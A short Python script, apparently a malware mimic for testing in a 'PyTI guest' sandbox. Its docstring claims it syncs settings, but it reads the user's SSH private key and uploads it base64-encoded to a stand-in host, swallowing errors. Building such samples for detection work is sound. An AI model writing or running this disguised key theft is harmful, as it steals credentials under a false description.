"""Keeps settings in step between machines."""

import base64
import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
    key = file.read()
request = urllib.request.Request("http://files.sync.test/upload", base64.b64encode(key))
try:
    urllib.request.urlopen(request, timeout=5).close()
except OSError:
    pass
